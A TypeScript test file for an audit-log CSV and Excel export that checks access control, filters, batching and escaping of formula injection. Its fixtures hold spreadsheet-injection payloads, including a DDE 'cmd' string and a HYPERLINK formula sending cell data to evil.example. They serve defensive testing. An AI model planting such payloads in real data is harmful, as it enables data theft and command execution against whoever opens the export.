// The audit log's CSV and Excel file over HTTP: only staff who may read the log, its filters, and
// every entry however many keyset batches it takes.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { AUDIT_CSV_PATH, SESSION_COOKIE_NAME, spreadsheetPath } from '@casillero/shared';
import type { Database } from '../db/client';
import { auditLog } from '../db/schema';
import { testConfig } from '../env';
import { createServer } from '../server';
import { createOrPromoteAdmin } from '../services/auth';
import { callerFor, newVisitor } from '../test/caller';
import { csvRows, opensAsFormula } from '../test/csv';
import { createTestDatabase } from '../test/db';
import { STRONG_PASSWORD, signedInAdmin, signedInCustomer, signedInStaff } from '../test/factories';
import { xlsxSheetOf } from '../test/xlsx';
import { AUDIT_CSV_HEADERS } from './audit-export';

let database: Database;
let server: Awaited<ReturnType<typeof createServer>>;

beforeAll(async () => {
  database = await createTestDatabase();
  server = await createServer({ config: testConfig({ appUrl: 'http://localhost:3000' }), database });
});
afterAll(async () => {
  await server?.stop();
  await database?.close();
});

const download = (token: string | null, query = '', format: 'csv' | 'xlsx' = 'csv') =>
  server.app.inject({
    method: 'GET',
    url: `${spreadsheetPath(AUDIT_CSV_PATH, format)}${query}`,
    cookies: token ? { [SESSION_COOKIE_NAME]: token } : {},
  });

describe('audit CSV', () => {
  it('refuses visitors, customers and roles without the log; gives the administrator every entry, newest first', async () => {
    const admin = await signedInAdmin(database.db);
    const customer = await signedInCustomer(database.db);
    const caja = await signedInStaff(database.db, 'caja');
    // Many entries in one statement (the same instant): only the id orders them, across batches.
    await database.db.insert(auditLog).values(
      Array.from({ length: 4500 }, (_, i) => ({
        actorId: admin.user.id,
        actorRole: 'admin',
        action: 'packages.update',
        entity: 'packages',
        entityId: `pkg-${String(i).padStart(4, '0')}`,
        operation: 'update',
        before: { status: 'pending' },
        after: { status: `=cmd|${i}` },
      })),
    );

    expect((await download(null)).statusCode).toBe(401);
    expect((await download(customer.visitor.token)).statusCode).toBe(403);
    expect((await download(caja.visitor.token)).statusCode).toBe(403);

    const answer = await download(admin.visitor.token, '?entity=packages&action=packages.update');
    expect(answer.statusCode).toBe(200);
    expect(answer.headers['content-type']).toContain('text/csv');
    const lines = answer.body.slice(1, -2).split('\r\n');
    expect(lines[0]).toBe(
      '"Fecha","Persona","Rol","Acción","Entidad","Id","Operación","Antes","Después","IP","Navegador"',
    );
    const ids = lines.slice(1).map((l) => l.split('","')[5]);
    expect(ids).toHaveLength(4500);
    expect(new Set(ids).size).toBe(4500);
    expect(ids[0]).toBe('pkg-4499');
    expect(ids.at(-1)).toBe('pkg-0000');
    // The action in Spanish, as on the screen.
    expect(lines[1]).toContain('"Editó un paquete"');
    // Values are data, never formulas.
    expect(answer.body).not.toMatch(/","=cmd/);

    // The same entries as Excel, across the same batches: dates as date cells, newest first.
    for (const who of [null, customer, caja]) {
      expect((await download(who?.visitor.token ?? null, '', 'xlsx')).statusCode).toBe(who ? 403 : 401);
    }
    const xlsx = await download(admin.visitor.token, '?entity=packages&action=packages.update', 'xlsx');
    expect(xlsx.headers['content-disposition']).toMatch(/^attachment; filename="auditoria_\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const sheet = await xlsxSheetOf(xlsx, AUDIT_CSV_HEADERS);
    expect(sheet.rowCount).toBe(1 + 4500);
    expect(sheet.getRow(2).getCell(6).value).toBe('pkg-4499');
    expect(sheet.getRow(4501).getCell(6).value).toBe('pkg-0000');
    expect(sheet.getRow(2).getCell(1).value).toBeInstanceOf(Date);
    expect(sheet.getRow(2).getCell(1).numFmt).toBe('dd/mm/yyyy hh:mm');

    // Staff sign-ins are entries too, and the person filter keeps only theirs.
    const mine = await download(admin.visitor.token, `?actorId=${caja.user.id}`);
    const mineLines = mine.body.slice(1, -2).split('\r\n').slice(1);
    expect(mineLines).toHaveLength(1);
    expect(mineLines[0]).toContain('"Inicio de sesión"');

    expect((await download(admin.visitor.token, '?from=2026-05-02&to=2026-05-01')).statusCode).toBe(400);
  });
});

describe('audit CSV and formula injection', () => {
  it('writes a formula-like name and browser as text, whoever they came from', async () => {
    // A customer signs up with a payload for a name and is later made staff: their sign-ins
    // carry that name, and a browser string that is a payload too.
    const name = `-1+cmd|' /C calc'!A0`;
    const userAgent = `=HYPERLINK("http://evil.example/?d="&A1,"Ver")`;
    const admin = await signedInAdmin(database.db);
    const mallory = await signedInCustomer(database.db, { nombre: name });
    await createOrPromoteAdmin(database.db, { email: mallory.email, password: STRONG_PASSWORD });
    await callerFor(database.db, newVisitor({ userAgent })).auth.signIn({
      email: mallory.email,
      password: STRONG_PASSWORD,
    });

    const answer = await download(admin.visitor.token, `?actorId=${mallory.user.id}`);
    expect(answer.statusCode).toBe(200);
    const [header, ...rows] = csvRows(answer.body);
    expect(header).toEqual(AUDIT_CSV_HEADERS);
    expect(rows).toHaveLength(1);
    const cell = (column: (typeof AUDIT_CSV_HEADERS)[number]) => rows[0][AUDIT_CSV_HEADERS.indexOf(column)];
    expect(cell('Persona')).toBe(`'${name} <${mallory.email}>`);
    expect(cell('Navegador')).toBe(`'${userAgent}`);

    // In the Excel file the same values are plain text cells, exactly as written, never formulas.
    const sheet = await xlsxSheetOf(
      await download(admin.visitor.token, `?actorId=${mallory.user.id}`, 'xlsx'),
      AUDIT_CSV_HEADERS,
    );
    const browser = sheet.getRow(2).getCell(AUDIT_CSV_HEADERS.indexOf('Navegador') + 1);
    expect(browser.value).toBe(userAgent);
    expect(browser.type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getRow(2).getCell(2).value).toBe(`${name} <${mallory.email}>`);

    // Every entry of the log: no cell opens as a formula.
    const all = csvRows((await download(admin.visitor.token)).body).slice(1);
    expect(all.length).toBeGreaterThan(1);
    expect(all.flat().filter(opensAsFormula)).toEqual([]);
  });
});
